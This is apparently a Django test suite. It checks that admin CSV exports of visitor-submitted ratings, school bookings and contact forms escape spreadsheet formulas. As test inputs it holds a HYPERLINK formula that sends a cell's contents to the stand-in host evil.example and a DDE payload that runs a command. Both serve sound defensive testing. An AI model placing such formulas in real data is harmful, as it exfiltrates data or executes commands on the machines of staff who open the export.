"""Admin CSV exports of what anonymous visitors send cannot carry spreadsheet formulas."""

import csv
import io

import pytest
from allauth.mfa.totp.internal.auth import TOTP
from django.test import Client
from django.urls import reverse

from portal.accounts.demo import DEMO_TOTP_SECRET
from portal.core.csv import safe_cell
from tests.factories import UserFactory
from tests.home import factories

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")'


@pytest.fixture
def admin_client(db):
    client = Client()
    admin = UserFactory(is_staff=True, is_superuser=True)
    TOTP.activate(admin, DEMO_TOTP_SECRET)
    client.force_login(admin)
    return client


def csv_rows(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+39 0372", "'+39 0372"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Via Roma 1", "Via Roma 1"),
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_page_rating_export_neutralises_formulas(client, admin_client, home_page):
    page = factories.standard_page(home_page, title="Accessibilità")
    client.post(reverse("home:page_rating", args=[page.pk]), {"rating": "2", "comment": FORMULA})
    rows = csv_rows(
        admin_client.get(reverse("wagtailsnippets_home_pagefeedback:list") + "?export=csv")
    )
    assert rows[1][2] == "'" + FORMULA


def test_school_booking_export_neutralises_formulas(client, admin_client, home_page):
    programme = factories.school_programme(home_page)
    data = {
        "school": "=cmd|' /C calc'!A0",
        "teacher": "@Rossi",
        "email": "docente@example.org",
        "phone": "+39 0372 1234",
        "class_name": "3B",
        "pupils": "20",
        "preferred_period": "-marzo",
        "notes": FORMULA,
    }
    response = client.post(programme.url, data)
    assert response.status_code in (200, 302)
    url = reverse("wagtailsnippets_home_schoolbookingrequest:list") + "?export=csv"
    header, row = csv_rows(admin_client.get(url))
    cells = dict(zip(header, row, strict=True))
    assert row[1] == "'=cmd|' /C calc'!A0"
    assert row[2] == "'@Rossi"
    assert row[4] == "'+39 0372 1234"
    assert row[7] == "'-marzo"
    assert row[8] == "'" + FORMULA
    assert len(cells) == 11


def test_contact_form_submissions_export_neutralises_formulas(client, admin_client, home_page):
    page = factories.contact_page(home_page)
    # the visible fields (the honeypot "website" stays empty, as a person leaves it)
    names = [n for n in client.get(page.url).context["form"].fields if n != "website"]
    values = ["+Mario", "mario@example.org", FORMULA]
    response = client.post(page.url, dict(zip(names, values, strict=True)))
    assert response.status_code == 200
    url = reverse("wagtailforms:list_submissions", args=[page.pk]) + "?export=csv"
    header, row = csv_rows(admin_client.get(url))
    assert "'+Mario" in row
    assert "'" + FORMULA in row
    assert "mario@example.org" in row
